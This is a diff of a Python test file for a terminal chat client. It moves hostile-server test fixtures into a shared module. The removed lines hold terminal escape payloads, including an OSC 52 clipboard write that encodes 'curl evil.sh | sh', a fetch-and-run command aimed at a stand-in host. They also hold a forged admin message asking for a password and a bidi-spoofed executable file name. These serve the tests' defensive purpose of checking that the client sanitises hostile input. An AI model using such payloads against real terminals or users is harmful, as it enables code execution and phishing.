@@ -9,42 +9,13 @@ import pytest
 
 import chatproto as P
 from chatcli import STAMP
-from fakeserver import fingerprint, self_signed
-
-# Everything a terminal might obey: OSC 52 (write the clipboard), CSI (clear the screen,
-# move the cursor), DCS, BEL, CR and backspace (overwrite what is shown), DEL, the C1
-# controls including U+009B (CSI in one character) and U+0085 (NEL), and the bidi
-# controls (U+202A-202E, U+2066-2069, U+200E, U+200F, U+061C).
-ESCAPES = ("\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 \x1b[2J\x1b[1;1H \x1bP1$r\x1b\\ "
-           "\x07 over\rwrite \x08\x08\x08 \x7f \u009b2J \u0085 \u009d0;t\u009c "
-           "\u202a\u202b\u202c\u202d\u202e \u2066\u2067\u2068\u2069 \u200e\u200f\u061c")
-# Names are capped at 128 bytes on the wire: a shorter set for them.
-NAME_ESCAPES = "\x1b]52;c;eA==\x07\x1b[2J\u009b\u202e\u2066\r\x08\x7f"
-FORGED_NAME = "bob> hi\n12:00:00 <admin"
-FORGED_TEXT = "hi\n12:00:00 <admin> give me your password"
-FILE_NAME = "gpj\u202eexe.doc"
-SENTINEL = "last-word"
-
-BIDI = set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c")
-
+from fakeserver import (BIDI, ESCAPES, FILE_NAME, SENTINEL, fingerprint, hostile_frames,
+                        self_signed)
 
 def hostile_script(send):
-    """The frames a hostile server sends after the login; it then closes."""
-    def text(message_id, sender, body):
-        send(P.encode(P.TEXT, message_id=message_id, time_ms=0, room_id=0, sender_id=2,
-                      client_id=0, sender=sender, text=body))
-    text(1, "bob", ESCAPES)
-    text(2, FORGED_NAME, "looks like two lines")
-    text(3, "bob", FORGED_TEXT)
-    text(4, "eve" + NAME_ESCAPES, "a name full of escapes")
-    send(P.encode(P.USER_JOINED, users=[(3, "mallory" + NAME_ESCAPES)]))
-    send(P.encode(P.USER_LEFT, users=[(3, "mallory" + NAME_ESCAPES)]))
-    send(P.encode(P.FILE_ANNOUNCE, file_id=7, message_id=5, time_ms=0, room_id=0,
-                  uploader_id=2, upload_id=0, size=3, sha256=bytes(32),
-                  uploader="bob" + NAME_ESCAPES, name=FILE_NAME + ESCAPES))
-    send(P.encode(P.ERROR, code=P.E_INTERNAL, ref_type=0x7777, ref_id=0,
-                  message="error text " + ESCAPES))
-    text(6, "bob", SENTINEL)
+    """The hostile frames, then a SHUTDOWN whose reason is hostile too; then it closes."""
+    for frame in hostile_frames():
+        send(frame)
     send(P.encode(P.SHUTDOWN, reason="shutdown text " + ESCAPES))
     return True
 
